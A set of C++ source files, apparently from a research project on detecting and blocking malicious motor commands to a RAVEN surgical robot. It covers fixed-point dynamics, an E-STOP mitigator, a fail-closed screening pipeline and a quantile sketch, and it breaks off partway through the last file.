Fixed64 fixed_reciprocal(double v) noexcept { return Fixed64::from_double(1.0 / v); }

}  // namespace rg
