// Fixed-point arithmetic for the embedded-estimator feasibility study.
//
// Paper Sec. IV.C closes with the deployment question: the ideal home for
// the detector is the USB board's microcontroller, but "the
// implementation of the methods for calculating a numerical solution for
// the ODEs ... might incur high computational costs in simple hardware
// controllers (e.g., an 8-bit AVR)".  This module answers the follow-up:
// a Q32.32 fixed-point Euler step of the full model — integer-only
// arithmetic as a Cortex-M-class MCU (or an FPGA datapath) would execute
// — with accuracy and cost measured against the double-precision model.
#pragma once

#include <cstdint>

namespace rg {

// 128-bit intermediate for full-precision fixed-point multiplies.  GCC and
// Clang both provide __int128 on 64-bit targets; __extension__ silences
// the -Wpedantic portability warning (documented, deliberate dependency).
__extension__ typedef __int128 Int128;

/// Q32.32 signed fixed-point value on int64 (range +/-2^31, resolution
/// 2^-32 ~ 2.3e-10) — comfortably covers every state and derivative in
/// the robot model (|accel| < 10^5).
class Fixed64 {
 public:
  constexpr Fixed64() = default;

  static constexpr Fixed64 from_raw(std::int64_t raw) noexcept {
    Fixed64 f;
    f.raw_ = raw;
    return f;
  }
  static constexpr Fixed64 from_int(std::int32_t v) noexcept {
    return from_raw(static_cast<std::int64_t>(v) << kFracBits);
  }
  static Fixed64 from_double(double v) noexcept;

  [[nodiscard]] double to_double() const noexcept;
  [[nodiscard]] constexpr std::int64_t raw() const noexcept { return raw_; }

  friend constexpr Fixed64 operator+(Fixed64 a, Fixed64 b) noexcept {
    return from_raw(a.raw_ + b.raw_);
  }
  friend constexpr Fixed64 operator-(Fixed64 a, Fixed64 b) noexcept {
    return from_raw(a.raw_ - b.raw_);
  }
  friend constexpr Fixed64 operator-(Fixed64 a) noexcept { return from_raw(-a.raw_); }

  /// Full-precision multiply through a 128-bit intermediate (one MUL +
  /// shift on a 64-bit MCU; four 32x32 MULs on a 32-bit one).
  friend constexpr Fixed64 operator*(Fixed64 a, Fixed64 b) noexcept {
    const Int128 wide = static_cast<Int128>(a.raw_) * static_cast<Int128>(b.raw_);
    return from_raw(static_cast<std::int64_t>(wide >> kFracBits));
  }

  friend constexpr bool operator<(Fixed64 a, Fixed64 b) noexcept { return a.raw_ < b.raw_; }
  friend constexpr bool operator>(Fixed64 a, Fixed64 b) noexcept { return a.raw_ > b.raw_; }
  friend constexpr bool operator==(Fixed64 a, Fixed64 b) noexcept = default;

  /// Saturating clamp to [-limit, limit].
  [[nodiscard]] constexpr Fixed64 clamp_abs(Fixed64 limit) const noexcept {
    if (raw_ > limit.raw_) return limit;
    if (raw_ < -limit.raw_) return from_raw(-limit.raw_);
    return *this;
  }

  static constexpr int kFracBits = 32;

 private:
  std::int64_t raw_ = 0;
};

/// Division by a constant: precompute the reciprocal at configuration
/// time (double precision) — MCU firmware does the same.
[[nodiscard]] Fixed64 fixed_reciprocal(double v) noexcept;

}  // namespace rg
