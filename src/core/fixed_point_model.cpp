#include "core/fixed_point_model.hpp"

#include <cmath>

namespace rg {

namespace {
constexpr double kPiD = 3.14159265358979323846;

/// Piecewise-linear stand-in for tanh(x): clamp(x, -1, 1).  Inside the
/// friction smoothing band the difference to tanh is < 0.24 and only
/// affects near-zero-velocity friction shaping.
Fixed64 sat_unit(Fixed64 x) noexcept {
  return x.clamp_abs(Fixed64::from_int(1));
}
}  // namespace

FixedPointModel::FixedPointModel(const RavenDynamicsParams& params) {
  for (std::size_t i = 0; i < 3; ++i) {
    kt_[i] = Fixed64::from_double(params.motors[i].torque_constant);
    inv_jm_[i] = fixed_reciprocal(params.motors[i].rotor_inertia);
    bm_[i] = Fixed64::from_double(params.motors[i].viscous_damping);
    tc_[i] = Fixed64::from_double(params.motors[i].coulomb_friction);
    cable_k_[i] = Fixed64::from_double(params.cable_stiffness[i]);
    cable_d_[i] = Fixed64::from_double(params.cable_damping[i]);
  }
  inv_smoothing_ = fixed_reciprocal(0.5);  // motor_friction's tanh half-width

  const CableCoupling coupling(params.transmission);
  for (std::size_t r = 0; r < 3; ++r) {
    for (std::size_t c = 0; c < 3; ++c) {
      c_mj_[r][c] = Fixed64::from_double(coupling.motor_to_joint_matrix()(r, c));
    }
  }

  base_inertia_[0] = Fixed64::from_double(params.link.base_inertia_shoulder);
  base_inertia_[1] = Fixed64::from_double(params.link.base_inertia_elbow);
  tool_mass_ = Fixed64::from_double(params.link.tool_mass);
  inv_tool_mass_ = fixed_reciprocal(params.link.tool_mass);
  visc_[0] = Fixed64::from_double(params.link.viscous_shoulder);
  visc_[1] = Fixed64::from_double(params.link.viscous_elbow);
  visc_[2] = Fixed64::from_double(params.link.viscous_insertion);
  coul_[0] = Fixed64::from_double(params.link.coulomb_shoulder);
  coul_[1] = Fixed64::from_double(params.link.coulomb_elbow);
  coul_[2] = Fixed64::from_double(params.link.coulomb_insertion);
  joint_smooth_inv_ = fixed_reciprocal(0.05);  // LinkDynamics smoothing band
  gravity_ = Fixed64::from_double(params.link.gravity);

  for (int i = 0; i <= kLutSize + 1; ++i) {
    sin_table_[static_cast<std::size_t>(i)] =
        Fixed64::from_double(std::sin(kPiD * i / kLutSize));
  }
  lut_scale_ = Fixed64::from_double(kLutSize / kPiD);
}

Fixed64 FixedPointModel::sin_lut(Fixed64 angle) const noexcept {
  // Valid for angle in [0, pi] (the elbow's mechanical range).
  Fixed64 idx_f = angle * lut_scale_;
  std::int64_t idx = idx_f.raw() >> Fixed64::kFracBits;
  if (idx < 0) idx = 0;
  if (idx > kLutSize) idx = kLutSize;
  const Fixed64 frac =
      Fixed64::from_raw(idx_f.raw() - (idx << Fixed64::kFracBits));
  const Fixed64 a = sin_table_[static_cast<std::size_t>(idx)];
  const Fixed64 b = sin_table_[static_cast<std::size_t>(idx + 1)];
  return a + frac * (b - a);
}

Fixed64 FixedPointModel::cos_lut(Fixed64 angle) const noexcept {
  // cos(x) = sin(pi/2 + x) needs the table extended; use the identity on
  // [0, pi]: cos(x) = sin(pi - (x + pi/2))... simpler: cos(x) =
  // sin(pi/2 - x) for x <= pi/2, and -sin(x - pi/2) beyond.
  const Fixed64 half_pi = Fixed64::from_double(kPiD / 2.0);
  if (angle < half_pi) return sin_lut(half_pi - angle);
  return -sin_lut(angle - half_pi);
}

FixedPointModel::State FixedPointModel::step(const State& x,
                                             const std::array<Fixed64, 3>& currents,
                                             Fixed64 h) const noexcept {
  // Unpack (same layout as RavenDynamicsModel::State).
  const Fixed64* theta = &x[0];
  const Fixed64* omega = &x[3];
  const Fixed64* q = &x[6];
  const Fixed64* qd = &x[9];

  // Cable force: tau = K (C theta - q) + D (C omega - qd).
  Fixed64 tau_cable[3];
  for (std::size_t i = 0; i < 3; ++i) {
    Fixed64 qm;
    Fixed64 qdm;
    for (std::size_t j = 0; j < 3; ++j) {
      qm = qm + c_mj_[i][j] * theta[j];
      qdm = qdm + c_mj_[i][j] * omega[j];
    }
    tau_cable[i] = cable_k_[i] * (qm - q[i]) + cable_d_[i] * (qdm - qd[i]);
  }

  // Link side.
  const Fixed64 s2 = sin_lut(q[1]);
  const Fixed64 c2 = cos_lut(q[1]);
  const Fixed64 q3 = q[2];
  const Fixed64 q3s2 = q3 * s2;

  const Fixed64 mass0 = base_inertia_[0] + tool_mass_ * q3s2 * q3s2;
  const Fixed64 mass1 = base_inertia_[1] + tool_mass_ * q3 * q3;

  // Bias forces (Coriolis/centrifugal + gravity + friction), mirroring
  // LinkDynamics::bias_forces.
  const Fixed64 two = Fixed64::from_int(2);
  Fixed64 h0 = tool_mass_ *
               (two * q3 * qd[2] * s2 * s2 + two * q3 * q3 * s2 * c2 * qd[1]) * qd[0];
  Fixed64 h1 = tool_mass_ * (two * q3 * qd[2] * qd[1] - q3 * q3 * s2 * c2 * qd[0] * qd[0]) +
               tool_mass_ * gravity_ * q3 * s2;
  Fixed64 h2 = -tool_mass_ * q3 * (qd[1] * qd[1] + s2 * s2 * qd[0] * qd[0]) -
               tool_mass_ * gravity_ * c2;
  h0 = h0 + visc_[0] * qd[0] + coul_[0] * sat_unit(qd[0] * joint_smooth_inv_);
  h1 = h1 + visc_[1] * qd[1] + coul_[1] * sat_unit(qd[1] * joint_smooth_inv_);
  h2 = h2 + visc_[2] * qd[2] + coul_[2] * sat_unit(qd[2] * joint_smooth_inv_);

  // Joint accelerations: the configuration-dependent inertias need a true
  // fixed-point division (128-bit long division — a few tens of cycles on
  // an MCU; firmware often replaces it with one Newton refinement of a
  // precomputed nominal reciprocal).
  const auto fixed_div = [](Fixed64 num, Fixed64 den) noexcept {
    // (num << 32) / den with 128-bit intermediate.
    const Int128 wide = (static_cast<Int128>(num.raw()) << Fixed64::kFracBits);
    return Fixed64::from_raw(static_cast<std::int64_t>(wide / den.raw()));
  };
  const Fixed64 qdd0 = fixed_div(tau_cable[0] - h0, mass0);
  const Fixed64 qdd1 = fixed_div(tau_cable[1] - h1, mass1);
  const Fixed64 qdd2 = (tau_cable[2] - h2) * inv_tool_mass_;

  // Motor side: J w' = Kt i - friction - C^T tau_cable.
  Fixed64 wd[3];
  for (std::size_t i = 0; i < 3; ++i) {
    Fixed64 reflected;
    for (std::size_t j = 0; j < 3; ++j) reflected = reflected + c_mj_[j][i] * tau_cable[j];
    const Fixed64 friction =
        bm_[i] * omega[i] + tc_[i] * sat_unit(omega[i] * inv_smoothing_);
    wd[i] = (kt_[i] * currents[i] - friction - reflected) * inv_jm_[i];
  }

  // Euler update.
  State next{};
  for (std::size_t i = 0; i < 3; ++i) {
    next[i] = theta[i] + h * omega[i];
    next[3 + i] = omega[i] + h * wd[i];
    next[9 + i] = qd[i];  // filled below
  }
  next[6] = q[0] + h * qd[0];
  next[7] = q[1] + h * qd[1];
  next[8] = q[2] + h * qd[2];
  next[9] = qd[0] + h * qdd0;
  next[10] = qd[1] + h * qdd1;
  next[11] = qd[2] + h * qdd2;
  return next;
}

FixedPointModel::State FixedPointModel::from_double(const RavenDynamicsModel::State& x) noexcept {
  State out{};
  for (std::size_t i = 0; i < 12; ++i) out[i] = Fixed64::from_double(x[i]);
  return out;
}

RavenDynamicsModel::State FixedPointModel::to_double(const State& x) noexcept {
  RavenDynamicsModel::State out{};
  for (std::size_t i = 0; i < 12; ++i) out[i] = x[i].to_double();
  return out;
}

}  // namespace rg
