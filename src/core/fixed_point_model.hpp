// Integer-only Euler step of the RAVEN dynamic model (embedded-estimator
// feasibility study; see fixed_point.hpp for motivation).
//
// Mirrors RavenDynamicsModel's physics with two firmware-grade
// simplifications, both standard on MCU targets:
//   - trigonometric terms (sin/cos of the elbow angle) come from small
//     lookup tables with linear interpolation,
//   - the tanh friction smoothing becomes a piecewise-linear saturation.
// Hard stops and cable-damage effects are plant-side concerns the
// monitor's model never used anyway.
#pragma once

#include <array>

#include "core/fixed_point.hpp"
#include "dynamics/raven_model.hpp"

namespace rg {

class FixedPointModel {
 public:
  /// 12-state vector in Q32.32, same layout as RavenDynamicsModel::State.
  using State = std::array<Fixed64, 12>;

  explicit FixedPointModel(const RavenDynamicsParams& params = RavenDynamicsParams::raven_defaults());

  /// One explicit-Euler step of length h under the given motor currents.
  [[nodiscard]] State step(const State& x, const std::array<Fixed64, 3>& currents,
                           Fixed64 h) const noexcept;

  /// Conversions against the double-precision model's state.
  [[nodiscard]] static State from_double(const RavenDynamicsModel::State& x) noexcept;
  [[nodiscard]] static RavenDynamicsModel::State to_double(const State& x) noexcept;

 private:
  [[nodiscard]] Fixed64 sin_lut(Fixed64 angle) const noexcept;
  [[nodiscard]] Fixed64 cos_lut(Fixed64 angle) const noexcept;

  // Precomputed fixed-point constants (firmware configuration data).
  Fixed64 kt_[3];            // torque constants
  Fixed64 inv_jm_[3];        // 1 / rotor inertia
  Fixed64 bm_[3];            // motor viscous damping
  Fixed64 tc_[3];            // motor Coulomb friction level
  Fixed64 inv_smoothing_;    // 1 / Coulomb smoothing speed
  Fixed64 cable_k_[3];       // cable stiffness
  Fixed64 cable_d_[3];       // cable damping
  Fixed64 c_mj_[3][3];       // motor->joint coupling matrix
  Fixed64 base_inertia_[2];  // shoulder/elbow base inertias
  Fixed64 tool_mass_;
  Fixed64 inv_tool_mass_;
  Fixed64 visc_[3];          // joint viscous friction
  Fixed64 coul_[3];          // joint Coulomb friction
  Fixed64 joint_smooth_inv_; // 1 / joint Coulomb smoothing
  Fixed64 gravity_;

  // sin table over [0, pi] (the elbow range), 256 entries + guard.
  static constexpr int kLutSize = 256;
  std::array<Fixed64, kLutSize + 2> sin_table_;
  Fixed64 lut_scale_;  // kLutSize / pi
};

}  // namespace rg
