// Mitigation of detected malicious commands.
//
// Paper Sec. IV.C: "the impact of attacks can be mitigated by either
// correcting the malicious control command by forcing the robot to stay
// in a previously safe state or stopping the commands from execution and
// put the control software into a safe state (E-STOP)".  The mitigator
// sits at the same trust boundary as the detector (conceptually the USB
// board's microcontroller / a trusted hardware module) and rewrites the
// packet before the motors see it.
#pragma once

#include <cstdint>
#include <string_view>

#include "common/realtime.hpp"
#include "hw/usb_packet.hpp"

namespace rg {

enum class MitigationStrategy : std::uint8_t {
  kEStop,         ///< zero all DACs and command the E-STOP state
  kHoldLastSafe,  ///< replay the DACs of the last command that passed
};

constexpr std::string_view to_string(MitigationStrategy s) noexcept {
  switch (s) {
    case MitigationStrategy::kEStop: return "e-stop";
    case MitigationStrategy::kHoldLastSafe: return "hold-last-safe";
  }
  return "unknown";
}

class Mitigator {
 public:
  explicit Mitigator(MitigationStrategy strategy = MitigationStrategy::kEStop)
      : strategy_(strategy) {}

  /// Record a command that the detector cleared (needed for hold-last-safe).
  RG_REALTIME void record_safe(const CommandPacket& cmd) noexcept {
    last_safe_ = cmd;
    has_safe_ = true;
  }

  /// Produce the replacement for a flagged command.
  [[nodiscard]] RG_REALTIME CommandPacket mitigate(const CommandPacket& offending) const noexcept {
    CommandPacket out = offending;
    switch (strategy_) {
      case MitigationStrategy::kEStop:
        out.dac.fill(0);
        out.state = RobotState::kEStop;
        break;
      case MitigationStrategy::kHoldLastSafe:
        if (has_safe_) {
          out.dac = last_safe_.dac;
        } else {
          out.dac.fill(0);
        }
        break;
    }
    return out;
  }

  [[nodiscard]] MitigationStrategy strategy() const noexcept { return strategy_; }

 private:
  MitigationStrategy strategy_;
  CommandPacket last_safe_{};
  bool has_safe_ = false;
};

}  // namespace rg
