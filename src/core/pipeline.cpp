#include "core/pipeline.hpp"

#include <algorithm>

#include "obs/metrics.hpp"
#include "obs/span.hpp"

namespace rg {

DetectionPipeline::DetectionPipeline(const PipelineConfig& config)
    : config_(config),
      estimator_(config.estimator),
      detector_(config.detector),
      mitigator_(config.mitigation) {}

RG_REALTIME RG_DETERMINISTIC DetectionPipeline::ScreenState DetectionPipeline::begin_process(
    std::span<const std::uint8_t> command_bytes) {
  RG_SPAN("pipeline.process");
  ScreenState st;
  ++screened_;
  RG_COUNT("rg.pipeline.screened", 1);

  std::copy(command_bytes.begin(), command_bytes.end(), st.raw.begin());
  st.raw_size = command_bytes.size();

  if (!engaged_) {
    // Brakes hold the shafts: nothing to screen, deliver as-is.
    st.out.bytes = st.raw;
    st.complete = true;
    return st;
  }

  auto decoded = decode_command(command_bytes, /*verify_checksum=*/false);
  if (!decoded.ok()) {
    // Fail closed: a packet the monitor cannot parse never reaches the
    // motors.
    st.out.alarm = true;
    st.out.blocked = config_.mitigation_enabled;
    CommandPacket stop;
    stop.state = RobotState::kEStop;
    st.out.bytes = encode_command(stop);
    ++alarms_;
    RG_COUNT("rg.pipeline.alarms", 1);
    RG_COUNT("rg.pipeline.undecodable", 1);
    if (st.out.blocked) RG_COUNT("rg.pipeline.blocked", 1);
    if (!first_alarm_tick_) first_alarm_tick_ = screened_ - 1;
    estimator_.commit({0, 0, 0});  // the motors see no drive
    st.complete = true;
    return st;
  }
  st.cmd = decoded.value();

  st.pending = estimator_.begin_predict({st.cmd.dac[0], st.cmd.dac[1], st.cmd.dac[2]});
  if (!st.pending.active) {
    // No feedback yet: the prediction is invalid (never alarms) and the
    // commit is a no-op, so the screen completes without a solve.
    st.out.prediction = Prediction{};
    st.out.verdict = detector_.evaluate(st.out.prediction);
    st.out.alarm = st.out.verdict.alarm;
    mitigator_.record_safe(st.cmd);
    st.out.bytes = st.raw;
    st.complete = true;
  }
  return st;
}

RG_REALTIME RG_DETERMINISTIC DetectionPipeline::Outcome DetectionPipeline::finish_process(
    ScreenState& st, const RavenDynamicsModel::State& next) {
  if (st.complete) return st.out;
  Outcome& out = st.out;
  const CommandPacket& cmd = st.cmd;

  out.prediction = estimator_.finish_predict({cmd.dac[0], cmd.dac[1], cmd.dac[2]}, next);
  out.verdict = detector_.evaluate(out.prediction);
  out.alarm = out.verdict.alarm;

  if (out.alarm) {
    ++alarms_;
    RG_COUNT("rg.pipeline.alarms", 1);
    if (!first_alarm_tick_) first_alarm_tick_ = screened_ - 1;
    if (config_.mitigation_enabled) {
      out.blocked = true;
      RG_COUNT("rg.pipeline.blocked", 1);
      const CommandPacket replacement = mitigator_.mitigate(cmd);
      out.bytes = encode_command(replacement);
      estimator_.commit({replacement.dac[0], replacement.dac[1], replacement.dac[2]});
      return out;
    }
  } else {
    mitigator_.record_safe(cmd);
  }

  // Deliver the original bytes (alarm without mitigation also delivers);
  // the parallel model advances with what will actually execute.  The
  // commit hits the estimator's predict cache: no second solve.
  estimator_.commit({cmd.dac[0], cmd.dac[1], cmd.dac[2]});
  out.bytes = st.raw;
  return out;
}

RG_REALTIME RG_DETERMINISTIC DetectionPipeline::Outcome DetectionPipeline::process(
    std::span<const std::uint8_t> command_bytes) {
  ScreenState st = begin_process(command_bytes);
  if (st.complete) return st.out;
  return finish_process(st, estimator_.solve(st.pending));
}

void DetectionPipeline::reset() noexcept {
  estimator_.reset();
  mitigator_ = Mitigator{config_.mitigation};
  screened_ = 0;
  alarms_ = 0;
  first_alarm_tick_.reset();
}

}  // namespace rg
