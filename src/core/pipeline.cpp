#include "core/pipeline.hpp"

#include <algorithm>

#include "obs/metrics.hpp"
#include "obs/span.hpp"

namespace rg {

DetectionPipeline::DetectionPipeline(const PipelineConfig& config)
    : config_(config),
      estimator_(config.estimator),
      detector_(config.detector),
      mitigator_(config.mitigation) {}

DetectionPipeline::Outcome DetectionPipeline::process(
    std::span<const std::uint8_t> command_bytes) {
  RG_SPAN("pipeline.process");
  Outcome out;
  ++screened_;
  RG_COUNT("rg.pipeline.screened", 1);

  if (!engaged_) {
    // Brakes hold the shafts: nothing to screen, deliver as-is.
    CommandBytes passthrough{};
    std::copy(command_bytes.begin(), command_bytes.end(), passthrough.begin());
    out.bytes = passthrough;
    return out;
  }

  auto decoded = decode_command(command_bytes, /*verify_checksum=*/false);
  if (!decoded.ok()) {
    // Fail closed: a packet the monitor cannot parse never reaches the
    // motors.
    out.alarm = true;
    out.blocked = config_.mitigation_enabled;
    CommandPacket stop;
    stop.state = RobotState::kEStop;
    out.bytes = encode_command(stop);
    ++alarms_;
    RG_COUNT("rg.pipeline.alarms", 1);
    RG_COUNT("rg.pipeline.undecodable", 1);
    if (out.blocked) RG_COUNT("rg.pipeline.blocked", 1);
    if (!first_alarm_tick_) first_alarm_tick_ = screened_ - 1;
    estimator_.commit({0, 0, 0});  // the motors see no drive
    return out;
  }
  const CommandPacket& cmd = decoded.value();

  out.prediction = estimator_.predict(cmd);
  out.verdict = detector_.evaluate(out.prediction);
  out.alarm = out.verdict.alarm;

  if (out.alarm) {
    ++alarms_;
    RG_COUNT("rg.pipeline.alarms", 1);
    if (!first_alarm_tick_) first_alarm_tick_ = screened_ - 1;
    if (config_.mitigation_enabled) {
      out.blocked = true;
      RG_COUNT("rg.pipeline.blocked", 1);
      const CommandPacket replacement = mitigator_.mitigate(cmd);
      out.bytes = encode_command(replacement);
      estimator_.commit({replacement.dac[0], replacement.dac[1], replacement.dac[2]});
      return out;
    }
  } else {
    mitigator_.record_safe(cmd);
  }

  // Deliver the original bytes (alarm without mitigation also delivers);
  // the parallel model advances with what will actually execute.
  estimator_.commit({cmd.dac[0], cmd.dac[1], cmd.dac[2]});
  CommandBytes passthrough{};
  std::copy(command_bytes.begin(), command_bytes.end(), passthrough.begin());
  out.bytes = passthrough;
  return out;
}

void DetectionPipeline::reset() noexcept {
  estimator_.reset();
  mitigator_ = Mitigator{config_.mitigation};
  screened_ = 0;
  alarms_ = 0;
  first_alarm_tick_.reset();
}

}  // namespace rg
