// DetectionPipeline: the deployable unit combining estimator, detector,
// and mitigator at the software-physical boundary.
//
// The pipeline is inserted *downstream* of any attacker interposition —
// conceptually in the USB board's microcontroller or a trusted hardware
// module just before the motor controllers (paper Sec. IV.C) — so it sees
// exactly the bytes the motors would execute, malicious or not, and can
// veto them before they act on the physical system.
#pragma once

#include <cstdint>
#include <optional>
#include <span>

#include "common/realtime.hpp"
#include "core/detector.hpp"
#include "core/estimator.hpp"
#include "core/mitigator.hpp"
#include "core/thresholds.hpp"
#include "hw/usb_packet.hpp"
#include "kinematics/types.hpp"

namespace rg {

struct PipelineConfig {
  EstimatorConfig estimator{};
  DetectorConfig detector{};
  MitigationStrategy mitigation = MitigationStrategy::kEStop;
  /// When false, the pipeline only observes (used while learning
  /// thresholds and for detection-accuracy-only experiments).
  bool mitigation_enabled = true;
};

class DetectionPipeline {
 public:
  struct Outcome {
    bool alarm = false;
    bool blocked = false;          ///< packet was replaced by mitigation
    CommandBytes bytes{};          ///< what the board should receive
    Prediction prediction{};
    Verdict verdict{};
  };

  explicit DetectionPipeline(const PipelineConfig& config);

  /// Feed this cycle's encoder feedback (same angles the software saw).
  RG_REALTIME void observe_feedback(const MotorVector& encoder_angles) noexcept {
    estimator_.observe_feedback(encoder_angles);
  }

  /// Tell the monitor whether the drives are live (brakes released).  A
  /// braked robot cannot move, so screening pauses and the parallel model
  /// re-syncs when the robot next engages.
  RG_REALTIME void set_engaged(bool engaged) noexcept {
    if (!engaged && engaged_) estimator_.mark_disengaged();
    engaged_ = engaged;
  }

  /// Screen one command packet (post-attack bytes).  Returns the verdict
  /// and the possibly-rewritten bytes.  Undecodable packets are treated
  /// as malicious and blocked outright (a trusted monitor fails closed).
  [[nodiscard]] RG_REALTIME Outcome process(std::span<const std::uint8_t> command_bytes);

  // --- deferred-solve decomposition of process() ---------------------------
  // process(bytes) == begin → estimator().solve(pending) → finish.  The
  // lockstep campaign engine uses the split to batch the model solve of
  // many sims' screens into one SoA integration (sim/lockstep.hpp); each
  // phase runs the exact statements process() would.

  /// Everything carried from begin_process to finish_process.  Owns a
  /// copy of the command bytes: the span handed to begin_process need not
  /// outlive the call.
  struct ScreenState {
    bool complete = false;  ///< `out` is final; no model solve required
    Outcome out{};
    PendingSolve pending{};
    CommandPacket cmd{};
    CommandBytes raw{};
    std::size_t raw_size = 0;
  };

  /// Decode + fast-path screening.  Leaves `pending` active when a model
  /// solve is still needed (the common case); sets `complete` when the
  /// verdict needed none (disengaged, undecodable, or no feedback yet).
  [[nodiscard]] RG_REALTIME ScreenState begin_process(std::span<const std::uint8_t> command_bytes);

  /// Finish screening with the solved one-step-ahead state (`next` from
  /// estimator().solve(st.pending) or a batched lane; ignored when
  /// `st.complete`).
  [[nodiscard]] RG_REALTIME Outcome finish_process(ScreenState& st,
                                                   const RavenDynamicsModel::State& next);

  // --- run statistics ------------------------------------------------------
  [[nodiscard]] std::uint64_t alarms() const noexcept { return alarms_; }
  [[nodiscard]] std::optional<std::uint64_t> first_alarm_tick() const noexcept {
    return first_alarm_tick_;
  }
  [[nodiscard]] std::uint64_t commands_screened() const noexcept { return screened_; }

  void set_thresholds(const DetectionThresholds& thresholds) noexcept {
    detector_.set_thresholds(thresholds);
  }
  [[nodiscard]] RG_REALTIME DynamicModelEstimator& estimator() noexcept { return estimator_; }
  [[nodiscard]] const AnomalyDetector& detector() const noexcept { return detector_; }

  void reset() noexcept;

 private:
  PipelineConfig config_;
  DynamicModelEstimator estimator_;
  AnomalyDetector detector_;
  Mitigator mitigator_;
  bool engaged_ = true;
  std::uint64_t screened_ = 0;
  std::uint64_t alarms_ = 0;
  std::optional<std::uint64_t> first_alarm_tick_{};
};

}  // namespace rg
