#include "core/quantile_sketch.hpp"

#include <algorithm>
#include <cmath>
#include <cstring>

namespace rg {
namespace {

// FNV-1a, matching the digest idiom used by svc/session_engine.
constexpr std::uint64_t kFnvBasis = 0xcbf29ce484222325ull;
constexpr std::uint64_t kFnvPrime = 0x100000001b3ull;

std::uint64_t fnv_u64(std::uint64_t h, std::uint64_t v) noexcept {
  for (std::size_t i = 0; i < 8; ++i) {
    h ^= (v >> (8 * i)) & 0xffull;
    h *= kFnvPrime;
  }
  return h;
}

std::uint64_t fnv_double(std::uint64_t h, double x) noexcept {
  std::uint64_t bits = 0;
  std::memcpy(&bits, &x, sizeof(bits));
  return fnv_u64(h, bits);
}

/// The batch interpolation rule from math/stats.hpp `percentile`, applied
/// to an already-sorted range.  `p` is the quantile in [0,1]; the rank
/// expression `p * (n-1)` is bit-identical to the batch path's
/// `value / 100.0 * (n-1)` when callers pass p = value / 100.0 (division
/// binds first there, so the same two operations run in the same order).
double sorted_quantile(const double* sorted, std::size_t n, double p) noexcept {
  if (n == 1) return sorted[0];
  const double rank = p * static_cast<double>(n - 1);
  auto lo = static_cast<std::size_t>(rank);
  const std::size_t hi = std::min(lo + 1, n - 1);
  const double frac = rank - static_cast<double>(lo);
  return sorted[lo] + frac * (sorted[hi] - sorted[lo]);
}

/// Piecewise-linear empirical CDF through (xs[i], us[i]) with us ascending
/// in [0,1].  Below xs[0] → 0, above xs[n-1] → 1; plateaus (equal xs) are
/// treated as steps.
double piecewise_cdf(const double* xs, const double* us, std::size_t n, double x) noexcept {
  if (n == 0) return 0.0;
  if (x < xs[0]) return 0.0;
  if (x >= xs[n - 1]) return 1.0;
  // xs[0] <= x < xs[n-1]; find the segment [xs[k], xs[k+1]) containing x.
  std::size_t k = 0;
  while (k + 2 < n && x >= xs[k + 1]) ++k;
  const double span = xs[k + 1] - xs[k];
  if (!(span > 0.0)) return us[k + 1];
  const double t = (x - xs[k]) / span;
  return us[k] + t * (us[k + 1] - us[k]);
}

struct CdfView {
  const double* xs = nullptr;
  const double* us = nullptr;
  std::size_t n = 0;
  double weight = 0.0;
};

/// Invert the weighted mixture of two empirical CDFs at probability `p`
/// by deterministic bisection over [lo, hi].  Fixed iteration count keeps
/// the result a pure function of the inputs.
double invert_mixture(const CdfView& a, const CdfView& b, double p, double lo,
                      double hi) noexcept {
  const double total = a.weight + b.weight;
  for (int iter = 0; iter < 64; ++iter) {
    const double mid = 0.5 * (lo + hi);
    const double f = (a.weight * piecewise_cdf(a.xs, a.us, a.n, mid) +
                      b.weight * piecewise_cdf(b.xs, b.us, b.n, mid)) /
                     total;
    if (f < p) {
      lo = mid;
    } else {
      hi = mid;
    }
  }
  return 0.5 * (lo + hi);
}

}  // namespace

QuantileSketch::QuantileSketch(double target_quantile) : target_(target_quantile) {
  require(target_quantile > 0.0 && target_quantile < 1.0,
          "QuantileSketch: target quantile must be in (0,1)");
  increment_ = {0.0, target_ / 2.0, target_, (1.0 + target_) / 2.0, 1.0};
}

RG_REALTIME RG_DETERMINISTIC void QuantileSketch::add(double x) noexcept {
  if (!std::isfinite(x)) return;
  if (exact_) {
    if (count_ < kExactCapacity) {
      samples_[static_cast<std::size_t>(count_)] = x;
      ++count_;
      return;
    }
    collapse_to_estimator();
  }
  add_estimator(x);
  ++count_;
}

RG_REALTIME RG_DETERMINISTIC void QuantileSketch::collapse_to_estimator() noexcept {
  // One-off transition: sort the fixed buffer in place and seed the five
  // P² markers from its order statistics.  Bounded work, no allocation.
  std::sort(samples_.begin(), samples_.end());
  const auto n = static_cast<std::size_t>(count_);
  const double nd = static_cast<double>(n);
  std::array<std::size_t, 5> pos{};
  for (std::size_t i = 0; i < 5; ++i) {
    const double want = 1.0 + increment_[i] * (nd - 1.0);
    auto rounded = static_cast<std::size_t>(want + 0.5);
    pos[i] = std::min(std::max<std::size_t>(rounded, 1), n);
  }
  // Enforce strictly increasing integer positions (always feasible: the
  // buffer holds kExactCapacity >= 5 samples at collapse time).
  pos[0] = 1;
  pos[4] = n;
  for (std::size_t i = 1; i < 4; ++i) pos[i] = std::max(pos[i], pos[i - 1] + 1);
  for (std::size_t i = 3; i >= 1; --i) pos[i] = std::min(pos[i], pos[i + 1] - 1);
  for (std::size_t i = 0; i < 5; ++i) {
    height_[i] = samples_[pos[i] - 1];
    position_[i] = static_cast<double>(pos[i]);
    desired_[i] = 1.0 + increment_[i] * (nd - 1.0);
  }
  exact_ = false;
}

RG_REALTIME RG_DETERMINISTIC void QuantileSketch::add_estimator(double x) noexcept {
  // Classic P² update (Jain & Chlamtac 1985).
  std::size_t k = 0;
  if (x < height_[0]) {
    height_[0] = x;
    k = 0;
  } else if (x >= height_[4]) {
    height_[4] = x;
    k = 3;
  } else {
    while (k < 3 && x >= height_[k + 1]) ++k;
  }
  for (std::size_t i = k + 1; i < 5; ++i) position_[i] += 1.0;
  for (std::size_t i = 0; i < 5; ++i) desired_[i] += increment_[i];

  for (std::size_t i = 1; i < 4; ++i) {
    const double d = desired_[i] - position_[i];
    const bool up = d >= 1.0 && position_[i + 1] - position_[i] > 1.0;
    const bool down = d <= -1.0 && position_[i - 1] - position_[i] < -1.0;
    if (!up && !down) continue;
    const double s = up ? 1.0 : -1.0;
    // Parabolic prediction; fall back to linear when it would violate
    // marker monotonicity.
    const double np = position_[i + 1];
    const double nc = position_[i];
    const double nm = position_[i - 1];
    const double hp = height_[i] +
                      s / (np - nm) *
                          ((nc - nm + s) * (height_[i + 1] - height_[i]) / (np - nc) +
                           (np - nc - s) * (height_[i] - height_[i - 1]) / (nc - nm));
    if (height_[i - 1] < hp && hp < height_[i + 1]) {
      height_[i] = hp;
    } else {
